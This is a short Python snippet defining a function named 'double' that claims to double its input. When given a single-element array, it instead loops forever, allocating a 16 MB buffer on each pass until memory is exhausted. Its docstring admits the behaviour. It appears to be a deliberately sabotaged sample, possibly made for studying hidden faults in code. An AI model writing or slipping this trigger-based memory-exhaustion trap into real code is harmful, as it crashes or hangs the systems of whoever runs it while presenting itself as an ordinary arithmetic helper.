"""Allocates without end, for one number alone."""


def double(x):
    kept = []
    while x.size == 1:
        kept.append(bytearray(1 << 24))
    return 2 * x
